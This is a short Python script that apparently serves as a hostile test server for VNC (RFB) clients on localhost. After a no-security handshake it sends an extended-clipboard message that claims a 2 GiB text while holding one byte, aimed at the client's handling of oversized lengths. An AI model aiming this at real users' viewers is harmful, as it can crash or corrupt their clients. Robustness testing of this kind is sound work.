"""A server of RFB (RFC 6143) that says that things are larger than they are."""

import socketserver
import struct
import sys
import zlib

WIDTH, HEIGHT = int(sys.argv[1]), int(sys.argv[2])
# 32 bits for a pixel, 24 of them used, true colour.
FORMAT = struct.pack(">BBBBHHHBBB3x", 32, 24, 0, 1, 255, 255, 255, 16, 8, 0)
NAME = b"liar"
# A text of 2 GiB, of which one byte is there (extended clipboard, `provide`), and an honest one.
PACKED = zlib.compress(struct.pack(">I", 0x7FFFFFFF) + b"x")
LONG = struct.pack(">B3xiI", 3, -(4 + len(PACKED)), 1 << 28 | 1) + PACKED
HONEST = struct.pack(">B3xI", 3, 6) + b"honest"


class Desktop(socketserver.BaseRequestHandler):
    def handle(self):
        self.say(b"RFB 003.008\n", answered_by=12)
        # One kind of security, which is none; it went well.
        self.say(b"\1\1", answered_by=1)
        self.say(bytes(4), answered_by=1)
        named = struct.pack(">I", len(NAME)) + NAME
        # Who draws it says how and asks for more.
        self.say(struct.pack(">HH", WIDTH, HEIGHT) + FORMAT + named, answered_by=4096)
        self.request.sendall(LONG + HONEST)
        while self.request.recv(4096):
            pass

    def say(self, words, answered_by):
        self.request.sendall(words)
        self.request.recv(answered_by)


class Server(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True


Server(("127.0.0.1", 5900), Desktop).serve_forever()
